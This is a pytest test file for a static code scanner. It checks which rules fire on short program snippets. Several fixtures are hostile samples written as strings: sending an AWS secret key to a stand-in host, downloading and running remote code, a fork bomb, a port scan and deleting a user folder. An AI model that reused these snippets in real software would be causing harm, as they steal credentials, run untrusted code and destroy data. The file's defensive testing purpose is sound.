from __future__ import annotations

import pytest

from vanguard.layers.code.names import Room
from vanguard.layers.code.program import seen
from vanguard.model.finding import Severity


def stopping(program: str) -> set[str]:
    """The rules by which balanced stops a program."""
    return {
        each.rule.id
        for each in seen(program, Room(len(program)))
        if each.severity >= Severity.HIGH and each.level <= 2 and each.confidence >= 0.75
    }


def holding(program: str) -> set[str]:
    """The rules that have something to say of a program, whatever its level."""
    return {each.rule.id for each in seen(program, Room(len(program)))}


@pytest.mark.parametrize(
    ("program", "rule"),
    [
        (
            "import random\ndef make_key(n):\n    random.seed(n)\n    return random.getrandbits(128)\n",
            "code-weak-secret",
        ),
        (
            (
                "import random, time\ndef keygen():\n    random.seed(time.time())\n    return "
                "random.randint(0, 9)\n"
            ),
            "code-weak-secret",
        ),
        (
            "import hashlib\ndef store_password(user, password):\n    h = hashlib.md5(password.encode())\n"
            "    db[user] = h.hexdigest()\n",
            "code-weak-secret",
        ),
        (
            "<?php function save_user($n, $password) { $db->put($n, md5($password)); } ?>",
            "code-weak-secret",
        ),
        (
            "kept = []\ndef memory_leak(n):\n    for i in range(n):\n        kept.append('x' * 100000)\n"
            "memory_leak(5000)\n",
            "code-exhausts-machine",
        ),
        (
            "def fill_memory():\n    rows = {}\n    i = 0\n    while i < 10**7:\n        rows[i] = "
            "'row' * 10000\n"
            "        i += 1\nfill_memory()\n",
            "code-exhausts-machine",
        ),
        (
            "import os\ndef report(user):\n    try:\n        gain_root()\n        "
            "print(os.popen('lsof').read())\n"
            "        drop_root()\n    except OSError:\n        return False\n",
            "code-gains-privilege",
        ),
        (
            "import os\ndef show():\n    elevatePrivileges()\n    if not os.path.exists('x'):\n      "
            "  return 1\n"
            "    lowerPrivileges()\n",
            "code-gains-privilege",
        ),
        (
            "import requests\nprint(requests.get('https://someone.github.io/malware.html').text)\n",
            "code-fetches-ill-named",
        ),
        (
            "fetch('https://someone.pages.dev/k42wrt.pz71qd.html').then(r => r.text()).then(console.log)\n",
            "code-fetches-ill-named",
        ),
        (
            "import requests\nprint(requests.get('https://pastebin.com/raw/abc').text)\n",
            "code-fetches-dropped",
        ),
        (
            "from urllib.request import urlopen\nprint(urlopen('https://transfer.sh/x1/a.txt').read())\n",
            "code-fetches-dropped",
        ),
        ("import pickle, base64\npickle.loads(base64.b64decode(given))\n", "code-rebuilds-objects"),
        ("import os\nfor f in os.listdir('/dev/'):\n    print(f)\n", "code-surveys-system"),
        (
            (
                "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => "
                "eval(s)); });"
            ),
            "code-runs-download",
        ),
        (
            "import sys, urllib.request\nurllib.request.urlretrieve('http://h.example/m.py', '/tmp/m.py')\n"
            "sys.path.append('/tmp')\nimport m\n",
            "code-runs-download",
        ),
        ("exec(''.join(map(chr, [112, 114, 105, 110, 116])))\n", "code-runs-hidden"),
        (
            (
                "import os, requests\nrequests.post('https://h.example', json={'k': "
                "os.environ['AWS_SECRET_ACCESS_KEY']})\n"
            ),
            "code-sends-protected",
        ),
        (
            "import socket\nfor p in range(1, 65536):\n    s = socket.socket()\n"
            "    if s.connect_ex((host, p)) == 0: print(p)\n",
            "code-attacks-hosts",
        ),
        ("import os\nwhile True:\n    import os; os.fork()\n", "code-exhausts-machine"),
        (
            "var f = new ActiveXObject('Scripting.FileSystemObject'); f.DeleteFolder('C:\\\\Users');",
            "code-wipes-folders",
        ),
    ],
)
def test_what_a_program_neglects_or_takes_is_stopped(program: str, rule: str) -> None:
    assert rule in stopping(program)


@pytest.mark.parametrize(
    "program",
    [
        "import secrets\ndef make_key():\n    return secrets.token_bytes(16)\n",
        "import random\ndef pick_card(deck):\n    random.seed(4)\n    return random.choice(deck)\n",
        "import hashlib\ndef checksum(path):\n    return hashlib.md5(open(path, 'rb').read()).hexdigest()\n",
        "import bcrypt, hashlib\ndef store_password(u, p):\n    tag = hashlib.md5(u.encode()).hexdigest()\n"
        "    db[tag] = bcrypt.hashpw(p, bcrypt.gensalt())\n",
        (
            "rows = []\ndef fill_table(n):\n    for i in range(n):\n        rows.append('x' * 40)"
            "\nfill_table(500)\n"
        ),
        "def test_no_leak():\n    rows = []\n    for i in range(1000):\n        rows.append(i)\n",
        "import os\ndef report():\n    raise_privileges()\n    try:\n        return os.popen('lsof').read()\n"
        "    finally:\n        lower_privileges()\n",
        "import requests\nprint(requests.get('https://someone.github.io/docs/index.html').text)\n",
        "import pickle\nwith open('model.pkl', 'rb') as f:\n    model = pickle.load(f)\n",
        "import os\nfor f in os.listdir('/home/me/project'):\n    print(f)\n",
        "import os\nprint([p for p in os.listdir('/proc') if p.isdigit()])\n",
        "import os\nprint(os.listdir('/var/www'))\n",
        "import random\ndef make_key(n):\n    return ''.join(random.choice('abc') for _ in range(n))\n",
        (
            "require('https').get(u, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => "
            "/a(.)/.exec(s)); });"
        ),
        "print(''.join(map(chr, [112, 114, 105, 110, 116])))\n",
        "import os, boto3\nboto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
        "import socket\nfor p in (80, 443):\n    s = socket.socket()\n    print(s.connect_ex((host, p)))\n",
    ],
)
def test_honest_programs_that_come_near_pass(program: str) -> None:
    assert stopping(program) == set()


@pytest.mark.parametrize(
    ("program", "rule"),
    [
        (
            "def loan_score(person):\n    if person['gender'] == 'female':\n        return 1\n    return 5\n",
            "code-judges-people",
        ),
        (
            (
                "function check_potential {\n  if [[ $ethnicity == 'X' ]]; then\n    echo 'Low "
                "potential'\n  fi\n}\n"
            ),
            "code-judges-people",
        ),
        (
            "def login(password):\n    correct_password = 'hunter2'\n    if password == correct_password:\n"
            "        return True\n",
            "code-checks-badly",
        ),
        (
            "import re\ndef valid_ip(text):\n    return re.match(r'[0-9]+\\.[0-9]+', text) is not None\n",
            "code-checks-badly",
        ),
        (
            "def isOwner():\n    return True\ndef drop():\n    print('Dropping tables without permission')\n",
            "code-checks-badly",
        ),
    ],
)
def test_what_people_should_look_at_is_held_in_strict_alone(program: str, rule: str) -> None:
    assert rule in holding(program)
    assert rule not in stopping(program)


@pytest.mark.parametrize(
    "program",
    [
        "df = df[df['gender'] == 'female']\nprint(df['age'].mean())\n",
        "import os\ndef login(password):\n    return password == os.environ['ADMIN_PASSWORD']\n",
        (
            "import ipaddress, re\ndef valid_ip(text):\n    ipaddress.ip_address(re.match(r'[0-9.]+', "
            "text)[0])\n"
        ),
        "print('It is not allowed to copy this without permission')\n",
    ],
)
def test_what_comes_near_such_is_not_held(program: str) -> None:
    assert holding(program).isdisjoint({"code-judges-people", "code-checks-badly"})
